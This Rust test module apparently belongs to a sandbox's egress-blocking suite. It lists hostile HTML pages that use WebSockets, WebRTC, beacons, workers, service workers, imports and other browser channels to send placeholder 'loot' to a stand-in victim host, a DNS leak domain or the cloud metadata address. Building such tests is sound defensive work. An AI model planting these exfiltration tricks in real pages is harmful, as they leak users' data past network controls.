//! Ways to the network besides documents: sockets, datagrams, workers that outlive their page.

use super::{Attack, Kind, Proof, Reply};

const SCRIPT: &str = "text/javascript";

fn page(name: &str, proof: Proof, body: &'static str) -> Attack {
    Attack::page(name, Kind::Channel, proof, body)
}

pub(super) fn rows() -> Vec<Attack> {
    vec![
        page("websocket", Proof::Tcp, "<!doctype html><script>new WebSocket('ws://{victim}/websocket')</script>"),
        page("websocket-tls", Proof::Tcp, "<!doctype html><script>new WebSocket('wss://{tls}/')</script>"),
        page("websocket-name", Proof::Dns("socket.leak.example"), "<!doctype html><script>new WebSocket('ws://{loot}.socket.leak.example/')</script>"),
        page("websocket-inside", Proof::Tcp, "<!doctype html><script>new WebSocket('ws://169.254.169.254/')</script>"),
        page("websocket-worker", Proof::Tcp, "<!doctype html><script>new Worker('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "new WebSocket('ws://{victim}/websocket-worker')")),
        page("websocket-stream", Proof::Tcp, "<!doctype html><script>new WebSocketStream('ws://{victim}/websocket-stream')</script>"),
        page("webtransport", Proof::Udp, "<!doctype html><script>new WebTransport('https://{tls}/').ready.catch(() => {})</script>"),
        page("webrtc-stun", Proof::Udp, "<!doctype html><script>
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]});
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>"),
        page("webrtc-turn", Proof::Tcp, "<!doctype html><script>
const peer = new RTCPeerConnection({iceServers: [{urls: 'turn:{victim}?transport=tcp', username: '{loot}', credential: 'x'}]});
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>"),
        page("webrtc-name", Proof::Dns("stun.leak.example"), "<!doctype html><script>
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:{loot}.stun.leak.example'}]});
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>"),
        page("webrtc-candidate", Proof::Never("nothing was sent to a candidate that a page made up"), "<!doctype html><script>
(async () => {
  const peer = new RTCPeerConnection();
  peer.createDataChannel('x');
  await peer.setLocalDescription();
  const far = new RTCPeerConnection();
  await far.setRemoteDescription(peer.localDescription);
  await far.setLocalDescription();
  await peer.setRemoteDescription(far.localDescription);
  const [host, port] = '{udp}'.split(':');
  await peer.addIceCandidate({candidate: `candidate:1 1 udp 2122260223 ${host} ${port} typ host`, sdpMid: '0', sdpMLineIndex: 0});
})();
</script>").acts(&[super::Act::Wait(2_500)]),
        page("event-source", Proof::Tcp, "<!doctype html><script>new EventSource('http://{victim}/event-source')</script>"),
        page("fetch", Proof::Tcp, "<!doctype html><script>fetch('http://{victim}/fetch')</script>"),
        page("fetch-blind", Proof::Tcp, "<!doctype html><script>fetch('http://{victim}/fetch-blind', {mode: 'no-cors', method: 'POST', body: '{loot}'})</script>"),
        page("fetch-tls", Proof::Tcp, "<!doctype html><script>fetch('https://{tls}/')</script>"),
        page("fetch-at-the-end", Proof::Tcp, "<!doctype html><script>
addEventListener('pagehide', () => fetch('http://{victim}/fetch-at-the-end', {keepalive: true, mode: 'no-cors', method: 'POST', body: '{loot}'}));
setTimeout(() => location = '/steel.html', 200);
</script>"),
        page("fetch-later", Proof::Tcp, "<!doctype html><script>fetchLater('http://{victim}/fetch-later', {activateAfter: 0})</script>"),
        page("request-synchronous", Proof::Tcp, "<!doctype html><script>
const request = new XMLHttpRequest(); request.open('GET', 'http://{victim}/request-synchronous', false); request.send();
</script>"),
        page("request-asynchronous", Proof::Tcp, "<!doctype html><script>
const request = new XMLHttpRequest(); request.open('PUT', 'http://{victim}/request-asynchronous'); request.send('{loot}');
</script>"),
        page("beacon", Proof::Tcp, "<!doctype html><script>navigator.sendBeacon('http://{victim}/beacon', '{loot}')</script>"),
        page("beacon-at-the-end", Proof::Tcp, "<!doctype html><script>
addEventListener('visibilitychange', () => navigator.sendBeacon('http://{victim}/beacon-at-the-end', '{loot}'));
addEventListener('pagehide', () => navigator.sendBeacon('http://{victim}/beacon-at-the-end', '{loot}'));
setTimeout(() => location = '/steel.html', 200);
</script>"),
        page("worker", Proof::Tcp, "<!doctype html><script>new Worker('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "fetch('http://{victim}/worker')")),
        page("worker-blob", Proof::Tcp, "<!doctype html><script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://{victim}/worker-blob')\"])))</script>"),
        page("worker-imports", Proof::Tcp, "<!doctype html><script>new Worker('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "importScripts('http://{victim}/worker-imports.js')")),
        page("worker-nested", Proof::Tcp, "<!doctype html><script>new Worker('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "new Worker('{here}/inner.js')"))
            .file("inner.js", Reply::File(SCRIPT, "fetch('http://{victim}/worker-nested')")),
        page("shared-worker", Proof::Tcp, "<!doctype html><script>new SharedWorker('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "fetch('http://{victim}/shared-worker')")),
        page("service-worker", Proof::Tcp, "<!doctype html><script>navigator.serviceWorker.register('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "addEventListener('install', (event) => event.waitUntil(fetch('http://{victim}/service-worker', {mode: 'no-cors'})))")),
        page("service-worker-answers", Proof::Tcp, "<!doctype html><script>
navigator.serviceWorker.register('{here}/worker.js');
navigator.serviceWorker.oncontrollerchange = () => fetch('{here}/anything');
</script>")
            .file("worker.js", Reply::File(SCRIPT, "
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => event.respondWith(fetch('http://{victim}/service-worker-answers', {mode: 'no-cors'})));
")),
        page("service-worker-imports", Proof::Tcp, "<!doctype html><script>navigator.serviceWorker.register('{here}/worker.js')</script>")
            .file("worker.js", Reply::File(SCRIPT, "importScripts('http://{victim}/service-worker-imports.js')")),
        page("worklet", Proof::Tcp, "<!doctype html><script>new AudioContext().audioWorklet.addModule('http://{victim}/worklet.js')</script>"),
        page("import", Proof::Tcp, "<!doctype html><script type=module>import('http://{victim}/import.js')</script>"),
        page("import-map", Proof::Tcp, "<!doctype html><script type=importmap>{\"imports\": {\"parts\": \"http://{victim}/import-map.js\"}}</script><script type=module>import 'parts'</script>"),
        page("webassembly", Proof::Tcp, "<!doctype html><script>WebAssembly.compileStreaming(fetch('http://{victim}/webassembly'))</script>"),
        page("window", Proof::Tcp, "<!doctype html><button onclick=\"window.open('http://{victim}/window')\">Go</button>")
            .acts(&[super::Act::Click("button")]),
        page("window-without-opener", Proof::Tcp, "<!doctype html><a target=_blank rel=noopener href='http://{victim}/window-without-opener'>Go</a>")
            .acts(&[super::Act::Click("a")]),
        page("frame-across", Proof::Tcp, "<!doctype html><iframe src='http://localhost:8080/hostile/frame-across/inner'></iframe>")
            .file("inner", Reply::Page("<!doctype html><script>fetch('http://{victim}/frame-across')</script>")),
        page("frame-sandboxed", Proof::Tcp, "<!doctype html><iframe sandbox='allow-scripts' src='{here}/inner'></iframe>")
            .file("inner", Reply::Page("<!doctype html><script>fetch('http://{victim}/frame-sandboxed')</script>")),
        page("payment", Proof::Tcp, "<!doctype html><button>Pay</button><script>
document.querySelector('button').onclick = () => new PaymentRequest([{supportedMethods: 'http://{victim}/payment'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).show();
</script>")
            .acts(&[super::Act::Click("button")]),
    ]
}
